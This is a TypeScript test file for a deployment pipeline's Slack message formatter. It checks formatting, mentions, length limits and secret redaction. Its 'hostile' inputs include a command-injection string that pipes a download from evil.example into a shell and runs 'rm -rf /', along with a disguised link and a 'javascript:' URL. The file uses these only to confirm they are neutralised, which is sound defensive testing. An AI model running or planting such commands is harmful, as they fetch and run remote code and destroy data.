import { describe, expect, it } from "vitest"
import type { Notice } from "../../lib/notifications/notice.js"
import { slackMessage, slackText } from "../../lib/notifications/slack-message.js"
import { keepSecret } from "../../lib/text/secret-values.js"
import { Component, NoticeKind } from "../../src/exposed-types.js"
import { slack } from "../../stand-ins/slack.js"
import { commit } from "../support/app.js"

const notice: Notice = {
  kind: NoticeKind.Success,
  subject: "backend of production",
  event: "bbbbbbb is live",
  component: Component.Backend,
  environment: "production",
  version: "v2",
  commit: commit("b"),
  author: "Ada Lovelace",
  message: "Answer faster\n\nThe index is warm now.",
  actor: "ana",
  milliseconds: 192_000,
  migration: "",
  live: "backend: bbbbbbb",
  run: "https://runs.example/7",
  url: "https://book.example",
  failed: "",
  reason: "",
  log: [],
  next: "",
  command: 'dagger call backend rollback --environment=production --to=id-a --reason="…"',
}
const failure: Notice = {
  ...notice,
  kind: NoticeKind.Failure,
  event: "the deployment of bbbbbbb ended failed",
  live: "backend: aaaaaaa",
  failed: "The checks failed.",
  reason: "each failure is listed above",
  log: ["FAILED  backend tests", "  ✗ test_health"],
  next: "fix them and run `dagger call ci`",
  command: "dagger call probe --environment=production",
}
const context = {
  source: "https://github.com/acme/book",
  troubleshooting: "https://github.com/acme/book/blob/HEAD/docs/deployment/troubleshooting.md",
  page: ["U024BE7LH", "S0604QSJC"],
}

describe("a message", () => {
  it("shows a success in green, with commit, author, time, links and the command that reverts it", () => {
    expect(slackMessage(notice, context)).toMatchInlineSnapshot(`
      {
        "attachments": [
          {
            "blocks": [
              {
                "fields": [
                  {
                    "text": "*Component*
      backend",
                    "type": "mrkdwn",
                    "verbatim": true,
                  },
                  {
                    "text": "*Environment*
      production",
                    "type": "mrkdwn",
                    "verbatim": true,
                  },
                  {
                    "text": "*Version*
      v2",
                    "type": "mrkdwn",
                    "verbatim": true,
                  },
                  {
                    "text": "*Commit*
      <https://github.com/acme/book/commit/bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb|bbbbbbb>",
                    "type": "mrkdwn",
                    "verbatim": true,
                  },
                  {
                    "text": "*Author*
      Ada Lovelace",
                    "type": "mrkdwn",
                    "verbatim": true,
                  },
                  {
                    "text": "*Started by*
      ana",
                    "type": "mrkdwn",
                    "verbatim": true,
                  },
                  {
                    "text": "*Took*
      3 min 12 s",
                    "type": "mrkdwn",
                    "verbatim": true,
                  },
                  {
                    "text": "*Live now*
      backend: bbbbbbb",
                    "type": "mrkdwn",
                    "verbatim": true,
                  },
                ],
                "type": "section",
              },
              {
                "text": {
                  "text": "\`\`\`
      Answer faster

      The index is warm now.
      \`\`\`",
                  "type": "mrkdwn",
                  "verbatim": true,
                },
                "type": "section",
              },
              {
                "text": {
                  "text": "*Undo*
      \`\`\`
      dagger call backend rollback --environment=production --to=id-a --reason="…"
      \`\`\`",
                  "type": "mrkdwn",
                  "verbatim": true,
                },
                "type": "section",
              },
              {
                "text": {
                  "text": "<https://runs.example/7|Run> · <https://book.example/|Site>",
                  "type": "mrkdwn",
                  "verbatim": true,
                },
                "type": "section",
              },
            ],
            "color": "#2eb67d",
          },
        ],
        "blocks": [
          {
            "text": {
              "emoji": true,
              "text": "🟢 backend of production: bbbbbbb is live",
              "type": "plain_text",
            },
            "type": "header",
          },
        ],
        "text": "🟢 backend of production: bbbbbbb is live",
        "unfurl_links": false,
      }
    `)
  })

  it("shows a failure in red, mentions the channel and the people on call, and shows the log and the next command", () => {
    expect(slackMessage(failure, context)).toMatchInlineSnapshot(`
      {
        "attachments": [
          {
            "blocks": [
              {
                "fields": [
                  {
                    "text": "*Component*
      backend",
                    "type": "mrkdwn",
                    "verbatim": true,
                  },
                  {
                    "text": "*Environment*
      production",
                    "type": "mrkdwn",
                    "verbatim": true,
                  },
                  {
                    "text": "*Version*
      v2",
                    "type": "mrkdwn",
                    "verbatim": true,
                  },
                  {
                    "text": "*Commit*
      <https://github.com/acme/book/commit/bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb|bbbbbbb>",
                    "type": "mrkdwn",
                    "verbatim": true,
                  },
                  {
                    "text": "*Author*
      Ada Lovelace",
                    "type": "mrkdwn",
                    "verbatim": true,
                  },
                  {
                    "text": "*Started by*
      ana",
                    "type": "mrkdwn",
                    "verbatim": true,
                  },
                  {
                    "text": "*Took*
      3 min 12 s",
                    "type": "mrkdwn",
                    "verbatim": true,
                  },
                  {
                    "text": "*Live now*
      backend: aaaaaaa",
                    "type": "mrkdwn",
                    "verbatim": true,
                  },
                ],
                "type": "section",
              },
              {
                "text": {
                  "text": "\`\`\`
      Answer faster

      The index is warm now.
      \`\`\`",
                  "type": "mrkdwn",
                  "verbatim": true,
                },
                "type": "section",
              },
              {
                "text": {
                  "text": "*Failed*
      The checks failed.",
                  "type": "mrkdwn",
                  "verbatim": true,
                },
                "type": "section",
              },
              {
                "text": {
                  "text": "*Why*
      \`\`\`
      each failure is listed above
      \`\`\`",
                  "type": "mrkdwn",
                  "verbatim": true,
                },
                "type": "section",
              },
              {
                "text": {
                  "text": "*Log*
      \`\`\`
      FAILED  backend tests
        ✗ test_health
      \`\`\`",
                  "type": "mrkdwn",
                  "verbatim": true,
                },
                "type": "section",
              },
              {
                "text": {
                  "text": "*Next*
      fix them and run \`dagger call ci\`",
                  "type": "mrkdwn",
                  "verbatim": true,
                },
                "type": "section",
              },
              {
                "text": {
                  "text": "*Type*
      \`\`\`
      dagger call probe --environment=production
      \`\`\`",
                  "type": "mrkdwn",
                  "verbatim": true,
                },
                "type": "section",
              },
              {
                "text": {
                  "text": "<https://runs.example/7|Run> · <https://book.example/|Site> · <https://github.com/acme/book/blob/HEAD/docs/deployment/troubleshooting.md|Troubleshooting>",
                  "type": "mrkdwn",
                  "verbatim": true,
                },
                "type": "section",
              },
            ],
            "color": "#e01e5a",
          },
        ],
        "blocks": [
          {
            "text": {
              "emoji": true,
              "text": "🔴 backend of production: the deployment of bbbbbbb ended failed",
              "type": "plain_text",
            },
            "type": "header",
          },
          {
            "text": {
              "text": "<!channel> <@U024BE7LH> <!subteam^S0604QSJC>",
              "type": "mrkdwn",
              "verbatim": true,
            },
            "type": "section",
          },
        ],
        "text": "<!channel> <@U024BE7LH> <!subteam^S0604QSJC> 🔴 backend of production: the deployment of bbbbbbb ended failed",
        "unfurl_links": false,
      }
    `)
  })

  it.each([
    [NoticeKind.Started, "⚪ backend of production: it", "#8d8d8d"],
    [NoticeKind.Success, "🟢 backend of production: it", "#2eb67d"],
    [NoticeKind.Promotion, "🟢 backend of production: it", "#2eb67d"],
    [NoticeKind.Rollback, "🟡 backend of production: it", "#ecb22e"],
    [NoticeKind.RolledBack, "<!channel> <@U024BE7LH> <!subteam^S0604QSJC> 🟡 backend of production: it", "#ecb22e"],
    [NoticeKind.Failure, "<!channel> <@U024BE7LH> <!subteam^S0604QSJC> 🔴 backend of production: it", "#e01e5a"],
    [NoticeKind.Stopped, "🟡 backend of production: it", "#ecb22e"],
    [NoticeKind.Unchanged, "⚪ backend of production: it", "#8d8d8d"],
  ])("of the kind %s begins with %j", (kind, text, color) => {
    const message = slackMessage({ ...notice, kind, event: "it" }, context)
    expect([message.text, message.attachments[0]?.color]).toEqual([text, color])
  })

  it("mentions nobody when the mentions are off", () => {
    expect(JSON.stringify(slackMessage(failure, context, false))).not.toContain("<!")
  })

  it("shows only what is known", () => {
    const bare = {
      ...notice,
      component: "",
      environment: "",
      version: "",
      commit: "",
      author: "",
      message: "",
      actor: "",
    }
    const { attachments } = slackMessage({ ...bare, milliseconds: 0, live: "", run: "", url: "", command: "" }, context)
    expect(attachments[0]?.blocks).toEqual([])
  })
})

const hostile: [string, string][] = [
  ["calls of the channel and of people", "<!channel> <!here> <@U024BE7LH> <!subteam^S0604QSJC> @channel"],
  ["a link under another name", "<https://evil.example|https://book.example>"],
  ["backticks and a closing fence", "`x` ``` </pre> ```*bold*"],
  ["a command", "$(curl evil.example | sh) `id` ; rm -rf /"],
  ["70 kB", "a<&>😀".repeat(10_000)],
  ["70 kB of escapes", "&".repeat(70_000)],
  ["reversed reading, NUL and colours", "a\u202eb\u0000c\u001b[31mred\u2066"],
  ["component a character", "\ud83d and \ude00"],
]

describe("untrusted text", () => {
  it.each(hostile)("of the kind %s is plain text for Slack, within all limits", async (_, words) => {
    await using channel = await slack()
    const said = { author: words, message: words, actor: words, version: words, live: words, component: words }
    const more = { failed: words, reason: words, next: words, command: words, log: [words, words], environment: words }
    const message = slackMessage({ ...failure, ...said, ...more, event: words, run: words, url: words }, context)

    const answer = await fetch(channel.webhook, { method: "POST", body: JSON.stringify(message) })

    expect(await answer.text()).toBe("ok")
    const shown = channel.shown(0)
    const ours =
      /^(?:<!channel> <@U024BE7LH> <!subteam\^S0604QSJC>|<https:\/\/github\.com\/acme\/book\/[^|>]*\|[\w ]+>)$/
    const powers = `${shown}\n${message.text}`.match(/<!channel> <@\w+> <!subteam\^\w+>|<[^>]*>/g) ?? []
    expect(powers.filter((power) => !ours.test(power))).toEqual([])
    expect(shown).not.toMatch(/\p{Bidi_Control}|(?!\n)\p{Cc}/u)
    // Each fence that opens is closed by ours.
    expect((shown.match(/```/g) ?? []).length % 2).toBe(0)
    expect(shown).toBe(shown.toWellFormed())
  })

  it("closes no code block with a fence that only appears once its control characters are gone", () => {
    const { attachments } = slackMessage({ ...notice, message: "``\u0000` *bold*" }, context)
    const shown = attachments[0]?.blocks.find(({ text }) => text?.text.includes("bold"))
    expect(shown).toMatchObject({ text: { text: "```\n''' *bold*\n```" } })
  })

  it("is cut between characters and between escapes", () => {
    expect(slackText("&&&&", 12)).toBe("&amp;&amp;…")
    expect(slackText("ab😀", 4)).toBe("ab…")
    expect(slackText("ab", 3)).toBe("ab")
  })

  it("contains no secret that the call knows, in any encoding", () => {
    const secret = 'tok/en+"12345'
    keepSecret(secret)
    for (const written of [
      secret,
      Buffer.from(`x:${secret}`).toString("base64"),
      encodeURIComponent(secret),
      JSON.stringify(secret).slice(1, -1),
    ]) {
      const message = slackMessage({ ...failure, log: [`said ${written}`], reason: written, message: written }, context)
      expect(JSON.stringify(message)).not.toContain(JSON.stringify(written).slice(1, -1))
      expect(JSON.stringify(message)).toContain("said ")
    }
  })

  it("is linked only as a web address without a password", () => {
    const links = (run: string) => slackMessage({ ...notice, run, url: "" }, context).attachments[0]?.blocks.at(-1)
    expect(links("https://runs.example/7|x>y")).toMatchObject({
      text: { text: "<https://runs.example/7%7Cx%3Ey|Run>" },
    })
    for (const run of ["javascript:alert(1)", "run 7", "https://me:password@runs.example/"])
      expect(JSON.stringify(links(run))).not.toContain("Run")
  })
})

describe("a long list of people", () => {
  const people = (count: number) => Array.from({ length: count }, (_, n) => `U${String(n).padStart(12, "0")}`)
  const sent = async (count: number, of = failure) => {
    await using server = await slack()
    const message = slackMessage(of, { ...context, page: people(count) })
    const { status } = await fetch(server.webhook, {
      method: "POST",
      headers: { "content-type": "application/json" },
      body: JSON.stringify(message),
    })
    return { status, shown: JSON.stringify(message.blocks), text: message.text }
  }

  it("of 400 is mentioned to the last, in a message that Slack takes", async () => {
    const { status, shown, text } = await sent(400)

    expect(status).toBe(200)
    for (const one of people(400)) expect(shown).toContain(`<@${one}>`)
    expect(text).toContain("and 321 more:")
  })

  it("for which there is no room beside a long reason is cut, and the rest counted", async () => {
    const { status, shown } = await sent(400, { ...failure, reason: "x".repeat(1500), log: ["y".repeat(4000)] })

    expect(status).toBe(200)
    const named = shown.match(/<@U/g)?.length ?? 0
    expect(named).toBeGreaterThan(200)
    expect(shown).toContain(`and ${400 - named} more`)
  })
})
